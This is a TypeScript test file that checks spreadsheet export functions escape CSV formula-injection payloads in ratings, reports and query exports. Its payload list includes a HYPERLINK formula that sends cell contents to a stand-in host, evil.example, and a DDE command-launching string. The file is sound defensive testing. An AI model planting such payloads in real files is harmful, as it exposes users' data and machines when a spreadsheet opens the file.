import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, spreadsheetText, tsvLine } from '@/lib/export/spreadsheet-cells';
import { errorReportTsv } from '@/lib/ingest/issues';
import { readStarkCsv, starkCsvHeader, starkCsvRow } from '@/lib/queries/formats/stark';
import type { QueryRecord } from '@/lib/queries/types';
import type { Dimension } from '@/lib/studies/dimensions';
import { rawCsv, rawJsonl, summaryCsv, summaryMarkdown, type RawRating } from '@/lib/studies/export';
import type { StudyReport } from '@/lib/studies/report';
import { studyResults } from '@/lib/studies/results';

/** What a spreadsheet would run as a formula, as OWASP's CSV injection guidance lists it. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(A1)'];

/** A cell read back the way a spreadsheet reads a CSV field: unquoted, doubled quotes undone. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('spreadsheet cells', () => {
  it('prefixes a quote to text starting like a formula, and leaves other text alone', () => {
    for (const p of PAYLOADS) expect(spreadsheetText(p)).toBe(`'${p}`);
    for (const t of ['plain', 'a=b', ' =1', "'=1", '', 'e-mail', '1-2']) expect(spreadsheetText(t)).toBe(t);
  });

  it('keeps numbers numbers, whether given as numbers or as exact decimal text', () => {
    expect(csvLine([-1, 0.5, '-1', '+2', '-0.125', '1e-3', true, null, undefined])).toBe('-1,0.5,-1,+2,-0.125,1e-3,true,,\n');
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('-')).toBe("'-");
  });

  it('quotes CSV cells after neutralising, so the quote lands inside the field', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('neutralises TSV cells before turning tabs and line breaks into spaces', () => {
    expect(tsvLine(['\t=1+1', 'a\tb\nc', 3])).toBe("' =1+1\ta b c\t3\n");
  });
});

describe('report exports neutralise every payload', () => {
  it('the import error report (TSV)', () => {
    const report = errorReportTsv(PAYLOADS.map((p, i) => ({ file: p, line: i + 1, reason: p })));
    const rows = report.trimEnd().split('\n').slice(1).map((l) => l.split('\t'));
    expect(rows).toHaveLength(PAYLOADS.length);
    rows.forEach(([file, line, reason], i) => {
      expect(file!.startsWith("'")).toBe(true);
      expect(reason!.startsWith("'")).toBe(true);
      expect(line).toBe(String(i + 1));
    });
  });

  const rating = (text: string, i: number): RawRating => ({
    participant: i + 1, participant_kind: 'anonymous', item: 7, source: 'human', query_id: '12', attention_check: false,
    dimension: 'comment', value: i % 2 ? -1 : null, text, rated_at: '2026-01-01T00:00:00.000Z' });

  it('the raw ratings CSV; the JSONL keeps the text exact', () => {
    const rows = PAYLOADS.map(rating);
    const lines = rawCsv(rows).split('\n').slice(1, -1);
    // Split on the field separators: the text is the 9th of 10 fields and may be quoted (it can hold a CR).
    lines.forEach((line, i) => {
      const text = unquote(/^(?:[^,]*,){8}("(?:[^"]|"")*"|[^,]*),[^,]*$/.exec(line)![1]!);
      expect(text).toBe(`'${PAYLOADS[i]}`);
      expect(line.split(',')[7]).toBe(i % 2 ? '-1' : '');
    });
    expect(rawJsonl(rows).trimEnd().split('\n').map((l) => (JSON.parse(l) as RawRating).text)).toEqual(PAYLOADS);
  });

  it('the summary CSV (curator text) and Markdown (one line per row, pipes escaped)', () => {
    const dims: Dimension[] = [{ kind: 'scale', key: '=key', label: '+label|x\ny', question: '', min: 1, max: 5, anchors: {}, required: true }];
    const items = PAYLOADS.slice(0, 2).map((source, i) => ({ id: i + 1, source, queryExternalId: String(i), text: 't', attention: null }));
    const ratings = [1, 2].flatMap((p) => items.map((it) => ({ participantId: p, itemId: it.id, dimension: '=key', value: p + it.id, text: null })));
    const report: StudyReport = { study: { id: 1, name: '@study\n# injected', dimensions: dims }, ...studyResults(dims, items, ratings, { bootstrapSamples: 20 }), diversity: [], modelRaters: [] };
    const cells = summaryCsv(report).trimEnd().split('\n').slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map(unquote));
    expect(cells.map((c) => c.slice(0, 2))).toEqual([["'=key", `'${PAYLOADS[1]}`], ["'=key", `'${PAYLOADS[0]}`], ["'=key", 'all']]);
    const md = summaryMarkdown(report);
    expect(md.split('\n')[0]).toBe('# @study # injected');
    expect(md).toContain('+label\\|x y positive');
  });
});

describe('STaRK CSV', () => {
  const queries: QueryRecord[] = PAYLOADS.map((text, i) => ({ id: String(i), text, answers: ['1', '2'], seeds: [], split: null, metadata: {} }));

  it('stays the exact data by default, and round-trips byte for byte', async () => {
    const text = starkCsvHeader(false) + queries.map((q) => starkCsvRow(q, false)).join('');
    const read: string[] = [];
    for await (const q of readStarkCsv(text, 'qa.csv')) read.push((q as QueryRecord).text);
    expect(read).toEqual(PAYLOADS);
    expect(starkCsvHeader(false) + read.map((t, i) => starkCsvRow({ ...queries[i]!, text: t }, false)).join('')).toBe(text);
  });

  it('has a spreadsheet variant that neutralises the query texts and nothing else', async () => {
    const text = starkCsvHeader(false) + queries.map((q) => starkCsvRow(q, false, true)).join('');
    const read: QueryRecord[] = [];
    for await (const q of readStarkCsv(text, 'qa.csv')) read.push(q as QueryRecord);
    expect(read.map((q) => q.text)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(read.map((q) => q.answers)).toEqual(queries.map(() => ['1', '2']));
    expect(starkCsvRow({ ...queries[0]!, text: 'Which drug treats asthma?' }, false, true)).toBe('0,Which drug treats asthma?,"[1, 2]"\n');
  });
});
